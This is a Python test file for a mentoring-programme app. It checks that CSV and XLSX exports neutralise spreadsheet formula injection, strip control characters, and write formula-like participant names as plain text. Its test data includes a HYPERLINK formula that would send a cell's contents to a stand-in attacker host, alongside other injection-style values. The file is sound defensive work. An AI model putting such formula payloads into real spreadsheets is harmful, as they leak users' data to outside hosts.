"""Exports an operator opens in a spreadsheet: text stays text (no formula injection)."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from typer.testing import CliRunner

from demo.simulation import setup_cohort
from mentorat.cli import app
from mentorat.db import session_scope
from mentorat.services.spreadsheets import fill_sheet, new_workbook, write_csv
from models import Pair
from tasks import matching
from tests.conftest import START
from tests.support import phases

HYPERLINK = '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez ici")'
DANGEROUS = [HYPERLINK, "+33 1 02 03 04", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["Chloé Dubois", "O'Brien", " =espace devant", "a=b", ""]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def test_a_csv_cell_that_would_be_a_formula_starts_with_an_apostrophe(tmp_path):
    path = tmp_path / "export.csv"
    write_csv(path, ["valeur", "nombre"], [[value, -3] for value in DANGEROUS + HARMLESS])
    rows = read_csv(path)[1:]
    assert [row[0] for row in rows] == ["'" + v for v in DANGEROUS] + HARMLESS
    assert {row[1] for row in rows} == {"-3"}  # numbers are numbers, not text


def test_an_xlsx_cell_is_a_string_never_a_formula(tmp_path):
    path = tmp_path / "export.xlsx"
    book, sheet = new_workbook()
    fill_sheet(sheet, ["valeur", "nombre"], [[value, -3] for value in DANGEROUS + HARMLESS])
    book.save(path)
    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    expected = ["'" + v for v in DANGEROUS] + HARMLESS[:-1] + [None]
    # XML reads a carriage return back as a line feed.
    assert [c.value for c in cells[2::2]] == [v and v.replace("\r", "\n") for v in expected]
    assert {c.value for c in cells[3::2]} == {-3} and {c.data_type for c in cells[3::2]} == {"n"}


def test_control_characters_do_not_break_an_xlsx_export(tmp_path):
    book, sheet = new_workbook()
    fill_sheet(sheet, ["nom"], [["Dubois\x00\x07"]])
    book.save(tmp_path / "export.xlsx")
    assert load_workbook(tmp_path / "export.xlsx").active["A2"].value == "Dubois"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_participant_named_like_a_formula_is_exported_as_text(settings, tmp_path, suffix):
    cohort_id, _ = setup_cohort(settings, programme="mirhe", pairs=4, opens_at=START)
    phases.advance(settings, cohort_id, matching, START + timedelta(days=21))
    with session_scope(settings.database_url) as session:
        pair = session.scalars(select(Pair).where(Pair.cohort_id == cohort_id)).first()
        assert pair is not None
        pair.mentor.person.first_name = HYPERLINK
        pair.mentee.person.first_name = "@SUM(A1:A9)"
        mentee = f"@SUM(A1:A9) {pair.mentee.person.last_name}"
    path = tmp_path / f"proposition{suffix}"
    result = CliRunner().invoke(
        app, ["matching", "show", "--cohort", "MIRHE-2027", "--export", str(path)]
    )
    assert result.exit_code == 0, result.output
    if suffix == ".csv":
        cells = [cell for row in read_csv(path) for cell in row]
    else:
        book = load_workbook(path)
        every = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in every if c.data_type == "f"] == []
        cells = [str(c.value) for c in every]
    mentor = next(c for c in cells if "HYPERLINK" in c)
    assert mentor.startswith("'=HYPERLINK(")
    assert "'" + mentee in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
